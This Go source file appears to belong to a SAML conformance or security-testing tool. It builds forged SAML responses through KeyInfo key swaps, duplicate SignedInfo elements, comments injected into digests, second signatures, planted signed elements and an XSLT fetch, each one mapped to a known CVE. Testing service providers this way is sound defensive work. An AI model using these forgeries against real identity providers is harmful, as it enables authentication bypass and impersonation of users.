package saml

import (
	"crypto"
	"encoding/base64"
	"math/big"

	"github.com/beevik/etree"
)

// keyInfoMutations are signed by another key, which KeyInfo brings along in another form than a certificate.
func keyInfoMutations() []Mutation {
	return []Mutation{
		keyInfo("saml-key-value", "the key itself", func(f forgery, info *etree.Element) error {
			value := child(child(info, "KeyValue", ""), "RSAKeyValue", "")
			child(value, "Modulus", base64.StdEncoding.EncodeToString(f.foreign.key.N.Bytes()))
			child(value, "Exponent", base64.StdEncoding.EncodeToString(big.NewInt(int64(f.foreign.key.E)).Bytes()))
			return nil
		}),
		keyInfo("saml-retrieval-method", "a URL to fetch the certificate from", func(f forgery, info *etree.Element) error {
			method := child(info, "RetrievalMethod", "")
			method.CreateAttr("URI", f.lure)
			method.CreateAttr("Type", nsSignature+"rawX509Certificate")
			return nil
		}),
		keyInfo("saml-issuer-serial", "the names and serial number of the genuine certificate", func(f forgery, info *etree.Element) error {
			cert, err := f.foreign.parsed()
			if err != nil {
				return err
			}
			serial := child(child(info, "X509Data", ""), "X509IssuerSerial", "")
			child(serial, "X509IssuerName", cert.Issuer.String())
			child(serial, "X509SerialNumber", cert.SerialNumber.String())
			return nil
		}),
	}
}

func keyInfo(name, about string, fill func(forgery, *etree.Element) error) Mutation {
	return Mutation{Name: name, Rows: rows("SAML-SIG-08"), Text: "signed by another key; KeyInfo has only " + about + " (XML Signature Best Practices 2.1)",
		before: func(f forgery, m *message) {
			rename(m.assertion, f.stranger)
			m.seal = m.seal.by(f.foreign)
			m.seal.adapt = func(signature, _ *etree.Element) error {
				info := signature.SelectElement("KeyInfo")
				info.Child = nil
				return fill(f, info)
			}
		}}
}

// plantedMutations leave parts of signatures where a careless search finds them.
func plantedMutations() []Mutation {
	return []Mutation{
		tampered("saml-two-signed-infos", "SAML-SIG-15", "a Signature has two SignedInfo and the subject is changed (CVE-2025-29774)",
			func(s *etree.Element) { s.InsertChildAt(0, s.SelectElement("SignedInfo").Copy()) }),
		tampered("saml-comment-in-digest", "SAML-SIG-16", "a comment stands in DigestValue and the subject is changed (CVE-2025-29775)",
			func(s *etree.Element) {
				referenceOf(s).SelectElement("DigestValue").InsertChildAt(0, etree.NewComment("assay"))
			}),
		tampered("saml-comment-in-signature", "SAML-SIG-16", "a comment stands in SignatureValue and the subject is changed (CVE-2025-29775)",
			func(s *etree.Element) { s.SelectElement("SignatureValue").InsertChildAt(0, etree.NewComment("assay")) }),
		secondSignature("saml-second-signature-first", "before", 0),
		secondSignature("saml-second-signature-last", "after", 1),
		{Name: "saml-planted-digest", Rows: rows("SAML-SIG-18"), Text: "the subject is changed, and the digest of what came of it stands in StatusDetail (CVE-2024-45409)",
			after: func(f forgery, m *message) {
				rename(m.assertion, f.stranger)
				bare := m.assertion.Copy()
				removeSignature(bare)
				value, err := digest(crypto.SHA256, bare)
				m.fail(err)
				planted := element("ds", "DigestValue", nsSignature)
				planted.SetText(value)
				child(m.response.SelectElement("Status"), "StatusDetail", "").AddChild(planted)
			}},
		{Name: "saml-planted-signature", Rows: rows("SAML-SIG-18"), Text: "the genuine signed assertion stands in Extensions, the one in its place is changed and not signed (CVE-2024-45409)",
			after: func(f forgery, m *message) {
				evil, genuine, at := m.forged(f), m.assertion, m.assertion.Index()
				m.response.RemoveChild(genuine)
				m.response.InsertChildAt(at, evil)
				plant(m.response, genuine)
			}},
		{Name: "saml-signed-elsewhere", Rows: rows("SAML-SIG-22"), Text: "a genuine signed LogoutResponse stands in Extensions of a forged response that is not signed (CVE-2024-45409)",
			after: func(f forgery, m *message) {
				removeSignature(m.response)
				other := m.response.Copy()
				other.Tag = "LogoutResponse"
				other.RemoveChild(other.SelectElement("Assertion"))
				other.CreateAttr("ID", newID())
				m.resign(m.seal, other)
				removeSignature(m.assertion)
				rename(m.assertion, f.stranger)
				plant(m.response, other)
			}},
		{Name: "saml-xslt-in-object", Rows: rows("SAML-XML-12"), Text: "an Object of the signature has a stylesheet that fetches a URL (SAML2int: none)",
			before: func(f forgery, m *message) {
				m.seal.adapt = func(signature, _ *etree.Element) error {
					child(signature, "Object", "").AddChild(stylesheet(f.lure))
					return nil
				}
			}},
	}
}

// secondSignature puts a signature by another key beside each genuine one.
func secondSignature(name, where string, offset int) Mutation {
	return Mutation{Name: name, Rows: rows("SAML-SIG-17"), Text: "a second Signature, by another key, stands " + where + " the genuine one (CVE-2025-47949)",
		after: func(f forgery, m *message) {
			eachSignature(m, func(genuine *etree.Element) {
				signed := genuine.Parent().Copy()
				removeSignature(signed)
				second, err := m.seal.by(f.foreign).signature(signed)
				if m.fail(err); err == nil {
					genuine.Parent().InsertChildAt(genuine.Index()+offset, second)
				}
			})
		}}
}

// plant puts an element into Extensions of a response.
func plant(response, e *etree.Element) {
	extensions := etree.NewElement("samlp:Extensions")
	extensions.AddChild(e)
	insertAfterIssuer(response, extensions)
}
